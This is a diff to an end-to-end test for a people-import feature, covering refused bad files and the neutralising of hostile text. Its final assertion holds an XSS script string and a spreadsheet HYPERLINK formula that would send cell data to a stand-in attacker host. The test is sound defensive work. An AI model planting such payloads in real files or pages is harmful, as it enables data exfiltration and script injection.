@@ -9,7 +9,7 @@ import fs from "node:fs";
 import path from "node:path";
 import ExcelJS from "exceljs";
 import { and, count, eq, inArray } from "drizzle-orm";
-import { bodies, campaigns, conferences, invitations, people, scanLog, sites, units } from "@/db/schema";
+import { bodies, campaigns, conferences, importBatches, invitations, people, scanLog, sites, units } from "@/db/schema";
 import { MAX_BYTES } from "@/lib/people/import/parse-file";
 import { e2eDb, expect, practiceConference, signIn, test } from "./fixtures";
 
@@ -49,6 +49,7 @@ test.describe("the bad-input corpus", () => {
   });
 
   test("files: mis-encoded, truncated, fake, empty, binary and huge are refused with a message and nothing saved; hostile text is stored as text and shown escaped and neutralised", async ({ page }) => {
+    test.setTimeout(60_000); // thirteen uploads, then five pages and two exports: ~30 s on a busy 2-core machine
     await signIn(page, "admin");
     const db = e2eDb();
     const code = `bi${process.pid}${Date.now() % 100000}`;
@@ -75,6 +76,8 @@ test.describe("the bad-input corpus", () => {
     const huge = await upload("huge.csv", Buffer.alloc(MAX_BYTES + 1024 * 1024, "Nguyễn Văn A,Bí thư\n"));
     expect([400, 413]).toContain(huge.status());
     expect((await huge.json()).message).toBeTruthy();
+    // A refused file keeps no batch either: only the accepted files' batches exist.
+    expect(db.select({ n: count() }).from(importBatches).where(eq(importBatches.unitId, unit.id)).get()!.n).toBe(Object.values(expectations).filter((w) => w.expect === "accepted").length);
     const stored = db.select().from(people).where(eq(people.unitId, unit.id)).all();
     expect(stored).toHaveLength(Object.values(expectations).reduce((n, w) => n + (w.expect === "accepted" ? (w.rows ?? 0) : 0), 0));
     expect(stored.map((p) => p.fullName)).toEqual(expect.arrayContaining(["<script>alert(1)</script>", '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")']));
